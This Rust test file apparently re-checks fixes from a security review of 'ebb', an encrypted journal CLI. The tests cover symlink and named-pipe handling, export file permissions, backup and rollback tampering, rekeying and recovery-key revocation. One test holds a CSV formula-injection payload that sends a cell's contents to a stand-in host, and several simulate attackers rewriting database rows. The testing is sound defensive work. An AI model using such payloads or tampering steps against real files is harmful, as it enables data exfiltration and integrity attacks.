//! Findings of the outside security review (issue 13), each tried again through the real
//! `ebb` binary: what the review did, and what must happen now.

mod common;

use std::os::unix::fs::PermissionsExt;

use common::*;

#[test]
fn import_of_a_link_to_dev_zero_is_refused_at_once_and_changes_nothing() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "kept", "--date", "2026-11-20"]).ok();
    let before = s.export();
    let link = s.path("looks-like-an-export.json");
    std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
    // Before: the size check read a length of 0 and the read ran out of memory.
    let err = s.ebb(&["import", link.to_str().unwrap()]).fails(2);
    assert!(err.contains("is not a file Ebb can import"), "{err}");
    let mut after = s.export();
    after["exported_at"] = before["exported_at"].clone();
    assert_eq!(after, before);
}

#[test]
fn output_onto_an_open_file_makes_it_private_and_a_link_is_not_followed() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "private words", "--date", "2026-11-20"]).ok();
    let out = s.path("export.csv");
    std::fs::write(&out, "someone else's much longer file").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    s.ebb(&["export", "--format", "csv", "-o", out.to_str().unwrap()]).ok();
    // Before: the file stayed 0644 (readable by every user) while the CLI said "keep it private".
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(std::fs::read_to_string(&out).unwrap().contains("private words"));

    let target = s.path("shared-notes.txt");
    std::fs::write(&target, "not to be touched").unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    let link = s.path("report.md");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    s.ebb(&["report", "--format", "markdown", "-o", link.to_str().unwrap()]).ok();
    // Before: the report went through the link into the other file.
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "not to be touched");
    let meta = std::fs::symlink_metadata(&link).unwrap();
    assert!(meta.file_type().is_file() && meta.permissions().mode() & 0o777 == 0o600);
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert() {
    let s = Scratch::with_journal();
    s.ebb(&[
        "write",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
        "--date",
        "2026-11-20",
        "--tag",
        "@home",
    ])
    .ok();
    s.ebb(&[
        "episode",
        "--kind",
        "pursuit",
        "--actor",
        "me",
        "--trigger",
        "+1 more late night",
        "--at",
        "2026-11-21 21:00",
    ])
    .ok();
    s.ebb(&["write", "a plain day - nothing to run", "--date", "2026-11-22"]).ok();
    let csv = s.ebb(&["export", "--format", "csv"]).ok();
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let head = r.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    // Before: each of these began with = + @, which Excel and LibreOffice evaluate.
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a live formula: {cell:?}\n{csv}");
    }
    let texts: Vec<&str> = rows.iter().map(|row| &row[col("text")]).collect();
    assert!(texts.contains(&"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"), "{texts:?}");
    assert!(texts.contains(&"a plain day - nothing to run"), "{texts:?}");
    assert!(rows.iter().any(|row| &row[col("tags")] == "'@home"));
    assert!(rows.iter().any(|row| &row[col("trigger")] == "'+1 more late night"));
}

#[test]
fn a_tampered_journal_is_not_backed_up_and_the_clean_backups_stay() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "a clean day", "--date", "2026-11-20"]).ok();
    let backups = s.journal().parent().unwrap().join("backups");
    let clean: Vec<_> = files_below(&backups);
    assert_eq!(clean.len(), 1, "today's clean backup: {clean:?}");
    let before = std::fs::read(&clean[0]).unwrap();
    // Someone alters the records and removes today's backup, so a new one is due.
    let c = raw(&s.journal());
    c.execute("UPDATE records SET ciphertext = CAST(ciphertext AS BLOB) || x'00'", []).unwrap();
    drop(c);
    std::fs::remove_file(&clean[0]).unwrap();
    let out = s.ebb(&["write", "another day", "--date", "2026-11-21"]);
    // Before: the tampered file was copied into backups/ before anything was checked.
    assert!(out.stderr.contains("today's automatic backup could not be made"), "{}", out.stderr);
    assert!(files_below(&backups).is_empty(), "{:?}", files_below(&backups));
    std::fs::write(&clean[0], &before).unwrap();
    // And an older clean backup is never pruned by a damaged journal's visit.
    s.ebb(&["write", "a third day", "--date", "2026-11-22"]);
    assert_eq!(std::fs::read(&clean[0]).unwrap(), before);
}

#[test]
fn a_record_deleted_and_brought_back_cannot_be_rolled_back_to_an_old_version() {
    let s = Scratch::with_journal();
    let id =
        s.ebb(&["write", "first words", "--date", "2026-11-20"]).json()["id"].as_str().unwrap().to_owned();
    let export = s.path("before.json");
    s.ebb(&["export", "-o", export.to_str().unwrap()]).ok();
    s.ebb(&["edit", &id, "--text", "second words"]).ok();
    let bytes = uuid::Uuid::parse_str(&id).unwrap().as_bytes().to_vec();
    let row = |c: &rusqlite::Connection| -> (i64, Vec<u8>, Vec<u8>) {
        c.query_row("SELECT version, nonce, ciphertext FROM records WHERE id = ?1", [&bytes], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .unwrap()
    };
    let second = row(&raw(&s.journal()));
    // Deleted, brought back by importing the earlier export, then edited again.
    s.ebb(&["delete", &id]).ok();
    s.ebb(&["import", export.to_str().unwrap()]).ok();
    s.ebb(&["edit", &id, "--text", "third words"]).ok();
    let third = row(&raw(&s.journal()));
    assert!(third.0 > second.0, "a version came round again: {} after {}", third.0, second.0);
    // Someone puts the "second words" ciphertext back in place of the current one.
    raw(&s.journal())
        .execute(
            "UPDATE records SET version = ?1, nonce = ?2, ciphertext = ?3 WHERE id = ?4",
            rusqlite::params![second.0, second.1, second.2, bytes],
        )
        .unwrap();
    // Before: versions restarted at 1 after the delete, so (id, 2) was valid again and
    // `verify` said every record was intact while showing the rolled-back text.
    let err = s.ebb(&["verify"]).fails(4);
    assert!(err.contains("integrity summary"), "{err}");
}

#[test]
fn output_to_standard_output_by_name_still_works() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "to the pipe", "--date", "2026-11-20"]).ok();
    // Here stdout is a pipe: written as it is, not replaced by a file.
    let out = s.ebb(&["export", "-o", "/dev/stdout"]).ok();
    assert!(out.contains("to the pipe"), "{out}");
}

const NEW_PASS: &str = "a passphrase chosen after the first";

/// The data key, as someone who knows `pass` and holds a copy of `file` would get it: the
/// published format (SPEC §6) with `ring` directly, not Ebb's code.
fn data_key_of(file: &std::path::Path, pass: &str) -> Option<[u8; 32]> {
    use ring::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
    let (jid, salt, nonce, mut sealed): (Vec<u8>, Vec<u8>, Vec<u8>, Vec<u8>) = raw(file)
        .query_row("SELECT journal_id, salt, pass_nonce, pass_sealed FROM meta", [], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?))
        })
        .unwrap();
    let kek = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, &argon2id(pass, &salt)).unwrap());
    let aad = [b"ebb-wrap-passphrase-v1".as_slice(), &jid].concat();
    let dk = kek
        .open_in_place(Nonce::try_assume_unique_for_key(&nonce).unwrap(), Aad::from(&aad), &mut sealed)
        .ok()?;
    dk.try_into().ok()
}

/// How many of `file`'s records open under the data key `dk`.
fn records_opening(file: &std::path::Path, dk: &[u8; 32]) -> usize {
    use ring::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
    use ring::hkdf;
    struct Len;
    impl hkdf::KeyType for Len {
        fn len(&self) -> usize {
            32
        }
    }
    let jid: Vec<u8> = raw(file).query_row("SELECT journal_id FROM meta", [], |r| r.get(0)).unwrap();
    let mut rk = [0u8; 32];
    hkdf::Salt::new(hkdf::HKDF_SHA256, &jid)
        .extract(dk)
        .expand(&[b"ebb record key v1"], Len)
        .unwrap()
        .fill(&mut rk)
        .unwrap();
    let key = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, &rk).unwrap());
    rows(file)
        .into_iter()
        .filter(|(id, version, nonce, ct)| {
            let aad = [b"ebb-record-v1".as_slice(), &jid, id, &version.to_be_bytes()].concat();
            let mut buf = ct.clone();
            key.open_in_place(Nonce::try_assume_unique_for_key(nonce).unwrap(), Aad::from(&aad), &mut buf)
                .is_ok()
        })
        .count()
}

fn todays_backup(s: &Scratch) -> std::path::PathBuf {
    let day = chrono::Local::now().date_naive().format("%Y-%m-%d");
    s.journal().parent().unwrap().join("backups").join(format!("journal-{day}.ebb"))
}

/// A backup of the journal as it is now, named as if the daily backup of an earlier day.
fn earlier_backup(s: &Scratch, day: &str) -> std::path::PathBuf {
    let p = s.journal().parent().unwrap().join("backups").join(format!("journal-{day}.ebb"));
    s.ebb(&["backup", p.to_str().unwrap()]).ok();
    p
}

/// `ebb recover` of `journal` with the recovery key in `key`, choosing [`NEW_PASS`].
fn recover_with(s: &Scratch, key: &std::path::Path, journal: &std::path::Path) -> Run {
    s.ebb_env(
        &["--journal", journal.to_str().unwrap(), "recover", "--recovery-key-file", key.to_str().unwrap()],
        &[("EBB_NEW_PASSPHRASE", NEW_PASS)],
    )
}

fn with_new(s: &Scratch, args: &[&str]) -> Run {
    s.ebb_env(args, &[("EBB_PASSPHRASE", NEW_PASS)])
}

#[test]
fn after_passwd_an_older_header_copied_back_is_damage_not_a_way_in() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "written before the change", "--date", "2026-11-20"]).ok();
    let old_copy = s.path("kept-by-someone.ebb");
    s.ebb(&["backup", old_copy.to_str().unwrap()]).ok();
    s.ebb_env(&["passwd"], &[("EBB_PASSPHRASE", PASS), ("EBB_NEW_PASSPHRASE", NEW_PASS)]).ok();
    with_new(&s, &["write", "written after the change", "--date", "2026-11-21"]).ok();
    // Someone who knew the old passphrase copies the old header row over the live one.
    let c = raw(&s.journal());
    c.execute("ATTACH DATABASE ?1 AS old", [old_copy.to_str().unwrap()]).unwrap();
    c.execute("DELETE FROM main.meta", []).unwrap();
    c.execute("INSERT INTO main.meta SELECT * FROM old.meta", []).unwrap();
    c.execute("DETACH DATABASE old", []).unwrap();
    drop(c);
    // Before: the old passphrase listed the entry written after the change and `verify`
    // said every record was intact.
    let err = s.ebb(&["list"]).fails(4);
    assert!(err.contains("header does not belong"), "{err}");
    let err = s.ebb(&["verify"]).fails(4);
    assert!(err.contains("header does not belong"), "{err}");
}

#[test]
fn todays_backup_follows_a_passphrase_change_and_the_message_says_what_still_opens() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "a day", "--date", "2026-11-20"]).ok();
    let older = earlier_backup(&s, "2026-11-01");
    let out = s.ebb_env(&["passwd"], &[("EBB_PASSPHRASE", PASS), ("EBB_NEW_PASSPHRASE", NEW_PASS)]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("1 backup made before today still opens with the passphrase of its day"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("ebb rekey"), "{}", out.stderr);
    let today = todays_backup(&s);
    let open = |file: &std::path::Path, pass: &str| {
        s.ebb_env(&["--journal", file.to_str().unwrap(), "list", "--json"], &[("EBB_PASSPHRASE", pass)])
    };
    // Before: today's backup still opened with the old passphrase.
    open(&today, PASS).fails(3);
    assert!(open(&today, NEW_PASS).ok().contains("a day"));
    // An earlier day's backup opens with the passphrase of its day (SPEC §2).
    assert!(open(&older, PASS).ok().contains("a day"));
    s.ebb(&["list"]).fails(3);
}

#[test]
fn rekey_seals_every_record_again_and_what_the_old_passphrase_unseals_opens_nothing_new() {
    let s = Scratch::new();
    let rk1 = s.path("rk1.txt");
    s.ebb(&["init", "--recovery-key-file", rk1.to_str().unwrap()]).ok();
    for (i, day) in ["2026-11-18", "2026-11-19", "2026-11-20"].iter().enumerate() {
        s.ebb(&["write", &format!("entry number {i}"), "--date", day]).ok();
    }
    s.ebb(&["episode", "--kind", "pull_away", "--actor", "partner", "--at", "2026-11-20T21:00:00+01:00"])
        .ok();
    let before = s.export();
    let older = earlier_backup(&s, "2026-11-01");
    let old_rows = rows(&s.journal());
    // Someone learnt the passphrase and kept a copy: the data key is theirs.
    let stolen = data_key_of(&older, PASS).expect("the old copy opens with its passphrase");
    assert_eq!(records_opening(&s.journal(), &stolen), old_rows.len(), "positive control");

    let rk2 = s.path("rk2.txt");
    let out = s.ebb(&["rekey", "--recovery-key-file", rk2.to_str().unwrap()]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("sealed again under a new key"), "{}", out.stderr);
    assert!(out.stdout.is_empty(), "the key went to the file: {}", out.stdout);
    assert_eq!(std::fs::metadata(&rk2).unwrap().permissions().mode() & 0o777, 0o600);

    // Every record is there, as it was; every ciphertext and nonce is new.
    let mut after = s.export();
    after["exported_at"] = before["exported_at"].clone();
    assert_eq!(after, before);
    let new_rows = rows(&s.journal());
    assert_eq!(new_rows.len(), old_rows.len());
    for (_, _, nonce, ct) in &new_rows {
        assert!(old_rows.iter().all(|(_, _, n, c)| n != nonce && c != ct));
    }
    // The stolen key opens nothing in the journal now, nor in today's backup.
    assert_eq!(records_opening(&s.journal(), &stolen), 0);
    assert_eq!(records_opening(&todays_backup(&s), &stolen), 0);
    s.ebb(&["write", "written after the new key", "--date", "2026-11-21"]).ok();
    assert_eq!(records_opening(&s.journal(), &stolen), 0);
    // The passphrase stays; the old recovery key opens nothing, the new one does.
    s.ebb(&["verify"]).ok();
    let recover = |key: &std::path::Path, journal: &std::path::Path| recover_with(&s, key, journal);
    recover(&rk1, &s.journal()).fails(3);
    recover(&rk1, &older).fails(3);
    recover(&rk2, &s.journal()).ok();
    assert!(with_new(&s, &["list"]).ok().contains("written after the new key"));
    // The older backup still opens with its day's passphrase (SPEC §2) and holds only the
    // old records; now the new recovery key opens it too.
    recover(&rk2, &older).ok();
}

#[test]
fn a_new_recovery_key_shuts_the_old_one_out_of_the_journal_and_its_backups() {
    let s = Scratch::new();
    let rk1 = s.path("rk1.txt");
    s.ebb(&["init", "--recovery-key-file", rk1.to_str().unwrap()]).ok();
    s.ebb(&["write", "kept safe", "--date", "2026-11-20"]).ok();
    let older = earlier_backup(&s, "2026-11-02");
    // Without --new nothing happens.
    let err = s.ebb(&["recovery-key"]).fails(2);
    assert!(err.contains("--new"), "{err}");
    let out = s.ebb(&["recovery-key", "--new"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    // Shown as for `init`: alone on one line of stdout.
    let shown = out.stdout.trim().to_owned();
    assert_eq!(out.stdout.lines().count(), 1);
    assert_eq!(shown.split('-').count(), 13, "{shown}");
    assert!(out.stderr.contains("old recovery key no longer opens"), "{}", out.stderr);
    let rk2 = s.write_file("rk2.txt", &shown);
    let recover = |key: &std::path::Path, journal: &std::path::Path| recover_with(&s, key, journal);
    // Before: a recovery key file that leaked could not be revoked.
    recover(&rk1, &s.journal()).fails(3);
    recover(&rk1, &older).fails(3);
    recover(&rk1, &todays_backup(&s)).fails(3);
    recover(&rk2, &older).ok();
    recover(&rk2, &s.journal()).ok();
    assert!(with_new(&s, &["list"]).ok().contains("kept safe"));
}

#[test]
fn one_flipped_bit_in_the_integrity_row_opens_read_only_and_the_words_come_out() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "words to keep", "--date", "2026-11-20"]).ok();
    let c = raw(&s.journal());
    let mut sealed: Vec<u8> = c.query_row("SELECT sealed FROM integrity", [], |r| r.get(0)).unwrap();
    sealed[5] ^= 0x10;
    c.execute("UPDATE integrity SET sealed = ?1", [&sealed]).unwrap();
    drop(c);
    // Before: unlock stopped altogether ("integrity summary is damaged").
    let out = s.ebb(&["list", "--json"]);
    assert_eq!(out.code, 4, "{}", out.stderr);
    assert!(out.stdout.contains("words to keep"), "{}", out.stdout);
    assert!(out.stderr.contains("read-only"), "{}", out.stderr);
    let out = s.ebb(&["export"]);
    assert_eq!(out.code, 4);
    assert!(out.json()["entries"][0]["text"] == "words to keep");
    // Nothing can be written to it, and nothing was.
    let err = s.ebb(&["write", "more", "--date", "2026-11-21"]).fails(4);
    assert!(err.contains("read-only"), "{err}");
    assert_eq!(rows(&s.journal()).len(), 1);
}

#[test]
fn a_short_passphrase_is_refused_for_a_new_journal_and_a_change() {
    let s = Scratch::new();
    let err = s.ebb_env(&["init"], &[("EBB_PASSPHRASE", "x")]).fails(2);
    assert!(err.contains("at least 8 characters"), "{err}");
    assert!(!s.journal().exists());
    // Counted in characters, not bytes: five letters of two bytes each are still five.
    s.ebb_env(&["init"], &[("EBB_PASSPHRASE", "éèêëē")]).fails(2);
    s.ebb(&["init"]).ok();
    let err = s.ebb_env(&["passwd"], &[("EBB_PASSPHRASE", PASS), ("EBB_NEW_PASSPHRASE", "1234567")]).fails(2);
    assert!(err.contains("at least 8 characters"), "{err}");
    s.ebb(&["list"]).ok();
}

#[test]
fn import_of_a_named_pipe_is_refused_at_once_rather_than_waiting_for_a_writer() {
    let s = Scratch::with_journal();
    let fifo = s.path("export.json");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_ebb"))
        .args(["import", fifo.to_str().unwrap()])
        .env("EBB_JOURNAL", s.journal())
        .env("EBB_PASSPHRASE", PASS)
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Before: the open waited for a writer that never came.
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if std::time::Instant::now() > until {
            child.kill().unwrap();
            panic!("ebb import is still waiting on a named pipe");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(2));
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert!(err.contains("is not a file Ebb can import"), "{err}");
}
